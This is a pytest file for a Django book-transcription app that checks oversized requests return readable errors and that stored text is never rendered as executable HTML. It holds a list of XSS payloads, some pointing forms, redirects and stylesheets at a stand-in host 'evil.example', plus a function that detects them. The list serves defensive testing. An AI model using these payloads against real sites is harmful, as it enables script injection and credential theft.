"""Too much at once is a 4xx with a sentence, and what people or models wrote is never code in a browser (I55)."""

import json
from typing import Any

import pytest
from django.test import Client
from lxml import html as parser
from pytest_django.fixtures import Settings

from books.models import ApiToken
from tests.incidents.support import write_text
from tests.support.browser import person
from tests.support.library import make_book

pytestmark = pytest.mark.django_db


@pytest.fixture
def operator() -> Client:
    return Client(headers={"authorization": f"Bearer {ApiToken.issue('operator', 'operate')[1]}"})


def test_a_body_that_is_too_large_is_a_sentence(operator: Client, settings: Settings) -> None:
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1_048_576
    body = json.dumps({"title": "x" * 1_100_000, "pages": []})
    answer = operator.post("/api/books", body, content_type="application/json")
    assert (answer.status_code, answer.json()["error"]) == (
        413,
        "The body is larger than 1 MB: send less at once.",
    )


def test_deep_json_is_a_sentence(operator: Client) -> None:
    answer = operator.post("/api/books", "[" * 100_000, content_type="application/json")
    assert (answer.status_code, "JSON" in answer.json()["error"]) == (400, True)


def test_a_number_of_a_million_digits_is_a_sentence(operator: Client) -> None:
    body = '{"title": "x", "year": ' + "9" * 1_000_000 + "}"
    answer = operator.post("/api/books", body, content_type="application/json")
    assert (answer.status_code, bool(answer.json()["error"])) == (400, True)


@pytest.mark.parametrize("harm", ["fields", "bytes"])
def test_a_form_that_is_too_large_is_a_sentence(client: Client, settings: Settings, harm: str) -> None:
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS, settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100, 100_000
    client.force_login(person("superuser"))
    page = make_book(1).pages.get()
    form: dict[str, Any] = {f"f{n}": "x" for n in range(101)} if harm == "fields" else {"data": "x" * 100_001}
    answer = client.post(f"/read/{page.pk}/save", form)
    assert answer.status_code in (400, 413)
    assert "too large" in answer.content.decode()


def test_a_refused_form_says_what_to_do() -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(person("superuser"))
    answer = client.post("/admin/logout/")
    assert answer.status_code == 403
    assert "reload" in answer.content.decode().lower()


# Each writes `ran` somewhere if a browser were to run it; none may come out as a tag, an attribute or an address.
XSS = [
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg/onload=ran()>",
    "[link](javascript:ran())",
    "[link](JaVaScRiPt&colon;ran())",
    "[link](&#106;avascript:ran())",
    "[link](data:text/html,<script>ran()</script>)",
    '![x](x"onerror="ran())',
    "<a href='javascript:ran()'>x</a>",
    "<iframe srcdoc='<script>ran()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "[[margin: <img src=x onerror=ran()>]]",
    "[[unclear: <script>ran()</script>]]",
    "</div></main><script>ran()</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action='http://evil.example'><input name=password></form>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "`<script>ran()</script>`",
    "```html\n<script>ran()</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=ran()> | [x](vbscript:ran()) |",
]


def dangers(html: str) -> list[str]:
    """What a browser would act on: parsed as a browser parses it."""
    found: list[str] = []
    element: Any
    for element in parser.fromstring(html).iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            address = "".join(str(value).split()).lower()
            if str(name).startswith("on") or address.startswith(("javascript:", "vbscript:", "data:text")):
                found.append(f"{element.tag} {name}={value}")
            if "evil.example" in address and name in ("href", "src", "action", "content"):
                found.append(f"{element.tag} {name}={value}")
        if element.tag in ("script", "style", "iframe", "base", "object", "embed") and "ran()" in (
            element.text or ""
        ):
            found.append(str(element.tag))
    return found


@pytest.mark.parametrize("evil", XSS)
def test_i55_what_a_model_or_a_person_wrote_is_never_code(client: Client, evil: str) -> None:
    client.force_login(person("superuser"))
    book = make_book(1, title=f"T {evil}"[:500], author=evil, rights=evil, attribution=evil, is_public=True)
    page = book.pages.get()
    text = write_text(page, f"Arma virumque\n\n{evil}\n\ncano")
    write_text(page, evil, kind="translation", target_language="en", source="human")
    for address in (
        f"/read/{page.pk}/", f"/read/{page.pk}/?edit=ocr", f"/read/texts/{text.pk}/", "/library/",
        f"/library/{book.pk}/", f"/library/{book.pk}/1/", "/admin/books/book/", f"/admin/books/book/{book.pk}/change/",
        "/admin/books/page/", f"/admin/books/page/{page.pk}/change/", "/review/",
    ):  # fmt: skip
        answer: Any = client.get(address)
        assert answer.status_code == 200, address
        assert dangers(answer.content.decode()) == [], address


def test_a_template_in_a_text_stays_text(client: Client) -> None:
    client.force_login(person("superuser"))
    page = make_book(1).pages.get()
    write_text(page, "{{ 7|add:7 }} {% debug %}")
    assert "{{ 7|add:7 }} {% debug %}" in client.get(f"/read/{page.pk}/").content.decode()


def test_the_look_for_dangers_finds_them() -> None:
    assert dangers("<p><img src=x onerror=ran()></p>") == ["img onerror=ran()"]
    assert dangers("<div><script>ran()</script></div>") == ["script"]
    assert dangers("<p><a href=' java\nscript:ran()'>x</a></p>")
